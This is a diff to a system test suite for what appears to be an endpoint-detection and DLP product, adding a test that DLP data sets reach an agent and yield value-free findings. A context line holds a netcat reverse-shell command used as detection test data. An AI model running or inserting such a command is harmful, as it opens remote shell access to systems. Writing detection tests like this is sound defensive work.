@@ -38,11 +38,28 @@ import { createServer as createTcpServer, type AddressInfo, type Socket } from '
 import { scenarioEvents, SCENARIO_RULE_TITLES } from '../incidents/scenario.ts';
 import type { VigilEvent } from '../../src/schema/event.ts';
 import type { SystemAgent } from './agent.ts';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pino } from 'pino';
+import { Agent } from '../../src/agent/agent.ts';
+import type { Observation, Sensor } from '../../src/agent/sensor.ts';
+import { syntheticCsv, syntheticRow } from '../fixtures/dlp/synthetic.ts';
 import { DEPLOYMENTS, SETTINGS, type Deployment } from './deployments.ts';
 
 const NETCAT = { executable: '/usr/bin/nc', args: ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'] };
 const NETCAT_RULE = '5b1c7e2a-0d4f-4a6b-9c3e-7a1d00000001'; // rules/builtin/lnx_netcat_reverse_shell.yml
 const PASSWORD = 'system suite: correct horse battery staple';
+
+/** A sensor that reports the files the test writes (the /proc sensor does not see writes). */
+class WriteSensor implements Sensor {
+  readonly mode = 'proc' as const;
+  private sink: ((o: Observation) => void) | undefined;
+  async start(emit: (o: Observation) => void): Promise<void> { this.sink = emit; }
+  async stop(): Promise<void> { this.sink = undefined; }
+  health() { return { mode: 'proc' as const, drops: 0, restarts: 0 }; }
+  write(path: string): void { this.sink?.({ type: 'file_write', timeMs: Date.now(), pid: 4343, uid: 0, comm: 'rsync', path }); }
+}
 
 async function until<T>(what: string, probe: () => Promise<T | undefined | false>, timeoutMs = 30_000): Promise<T> {
   let last: unknown;
@@ -166,6 +183,37 @@ for (const kind of DEPLOYMENTS) {
       assert.equal(up.body.fingerprints, 4);
       assert.ok((await d.api('GET', '/dlp/datasets')).body.datasets.some((x: any) => x.id === up.body.id));
       assert.equal((await d.api('DELETE', `/dlp/datasets/${up.body.id}`)).status, 204);
+    });
+
+    test('dlp delivery: a data set named by a policy reaches the real agent by version and is acknowledged loaded; 3 of its rows in a written file give a finding naming 3 matches and no value; deleted, the agent drops it', scenario('dlp'), async () => {
+      const setName = `sys-customers-${Date.now()}`;
+      const up = await d.api('POST', '/dlp/datasets', { name: setName, columns: [{ name: 'name', type: 'name' }, { name: 'email', type: 'email' }, { name: 'ssn', type: 'digits' }, { name: 'card', type: 'card' }], csv: syntheticCsv(5000, 3) });
+      assert.equal(up.status, 201, JSON.stringify(up.body));
+      const share = mkdtempSync(join(tmpdir(), 'vigil-sys-dlp-'));
+      const name = `dlp-edm-${Date.now()}`;
+      assert.equal((await d.api('PUT', `/policies/${name}`, { document: { dlp: { paths: [share], datasets: [setName], detectors: ['iban'], action: 'record' } } })).status, 200);
+      const token = await d.api('POST', '/enrollment-tokens', { ttl_seconds: 600, max_uses: 1 });
+      const sensor = new WriteSensor();
+      const agent = new Agent({ dataDir: join(share, '.agent'), server: token.body.agent_endpoint, caPem: token.body.ca_pem, enrollmentToken: token.body.token, sensor, log: pino({ level: 'silent' }), batchIntervalMs: 100 });
+      try {
+        await agent.start();
+        await until('the policy acknowledged with its data set loaded', async () => (await d.api('GET', `/policies/${name}/acks`)).body.agents?.some((a: any) => a.agent_id === agent.agentId && a.current));
+        const [version] = agent.dlp.datasets.versions;
+        assert.equal(agent.dlp.datasets.set(version!)?.size, 20_000);
+        const rows = [syntheticRow(11, 3), syntheticRow(2222, 3), syntheticRow(4999, 3)];
+        const file = join(share, 'out.csv');
+        writeFileSync(file, `${rows.map((r) => r.join(';')).join('\n')}\n`);
+        sensor.write(file);
+        const finding = await until('the EDM finding', async () => (await d.api('GET', `/events?host=${agent.agentId}&file=${encodeURIComponent(file)}`)).body.events?.find((e: any) => e.dlp?.kind === 'dataset'));
+        assert.deepEqual([finding.dlp.rule, finding.dlp.matches, finding.dlp.cells], [setName, 3, 12]);
+        for (const v of rows.flat()) assert.ok(!JSON.stringify(finding).includes(v), `${v} in the finding`);
+        // Deleted: the policy goes again without it; the agent drops the set.
+        assert.equal((await d.api('DELETE', `/dlp/datasets/${up.body.id}`)).status, 204);
+        await until('the set dropped', async () => agent.dlp.datasets.set(version!) === undefined);
+      } finally {
+        await agent.stop();
+        rmSync(share, { recursive: true, force: true });
+      }
     });
 
     test('triage: acknowledge, close with a disposition, and bulk changes by ids and by filter', scenario('triage'), async () => {
